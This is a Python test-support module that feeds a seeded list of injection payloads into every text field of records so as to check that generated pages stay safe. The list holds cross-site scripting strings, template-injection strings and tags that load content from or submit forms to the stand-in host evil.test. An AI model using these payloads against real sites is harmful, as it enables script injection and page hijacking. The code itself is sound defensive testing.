"""Texts that try to run, to ask another origin, or to break a page; the same in every run.

`poisoned` puts one into every text of a record, term, guide or help line, past the check that
would refuse most of them: what is proved is that the pages hold even where the check does not.
"""

from __future__ import annotations

import dataclasses
import random
from collections.abc import Iterator
from typing import Any

from pydantic import BaseModel

from levelground.facts.vocabulary import Localized

SEED = 20261129
ELSEWHERE = "evil.test"
_OPENERS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`",
    "-->",
    "]]>",
    "*/",
    "\\",
    '\\"',
    "</p>",
    "}}",
    "%}",
    ");",
)
_PAYLOADS = (
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "</template><x-evil>",
    "</title><x-evil>",
    "</textarea><x-evil>",
    "</main></body><x-evil>",
    "{{ hit() }}",
    "{% raw %}{{ hit() }}",
    "{name} {href} {say}",
    "${hit()}",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    f"<iframe src=//{ELSEWHERE}></iframe>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/a.css>",
    f"<base href=//{ELSEWHERE}/>",
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}">',
    f"<style>@import '//{ELSEWHERE}/b.css'; body {{display: none}}</style>",
    f"<form action=//{ELSEWHERE}><button autofocus onfocus=hit()>",
    f'<object data="//{ELSEWHERE}/c"></object>',
    "&lt;img src=x onerror=hit()&gt;",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "\u2028hit();//",
    'x" onmouseover=hit() autofocus onfocus=hit() "',
    "x' style='position:fixed' onclick='hit()",
    '"});hit();//',
    "'+hit()+'",
)
# What is no text: names that become addresses, codes, addresses and numbers, and safe HTML.
_KEPT = frozenset(
    {"slug", "path", "digest", "id", "term", "zip", "url", "website", "email", "phone", "text"}
    | {"state", "word", "codes", "no_codes", "forms", "synonyms", "source", "html", "directives"}
    | {"links", "claims", "language", "corrections", "formerly", "level", "claim", "years"}
    | {"title_of", "excused", "imported", "listed", "county", "related", "vocabulary", "pattern"}
)


def attacks(seed: int = SEED) -> Iterator[str]:
    """Yield attacks without end, each with a number of its own."""
    chance = random.Random(seed)  # noqa: S311 - the same in every run
    number = 0
    while True:
        for payload in chance.sample(_PAYLOADS, len(_PAYLOADS)):
            number += 1
            yield f"A{number} {chance.choice(_OPENERS)}{payload}"


class Poison:
    """Puts the next attack into every text that it is given; `put` counts them."""

    def __init__(self) -> None:
        self.put = 0
        self._attacks = attacks()

    def into(self, value: Any) -> Any:
        """Return *value* with an attack in place of every text in it."""
        if isinstance(value, str) and type(value) is str:
            self.put += 1
            return next(self._attacks)
        if isinstance(value, Localized):
            pairs = tuple((code, self.into(said)) for code, said in value.by_language)
            return Localized(pairs)
        if isinstance(value, tuple):
            return tuple(self.into(one) for one in value)
        if isinstance(value, BaseModel):
            return value.model_copy(update=dict(self._fields(value, type(value).model_fields)))
        if dataclasses.is_dataclass(value) and hasattr(value, "label"):
            names = [one.name for one in dataclasses.fields(value)]
            return dataclasses.replace(value, **dict(self._fields(value, names)))
        return value

    def _fields(self, value: Any, names: Any) -> Iterator[tuple[str, Any]]:
        for name in names:
            own = getattr(value, name)
            if name not in _KEPT and own is not None:
                yield name, self.into(own)
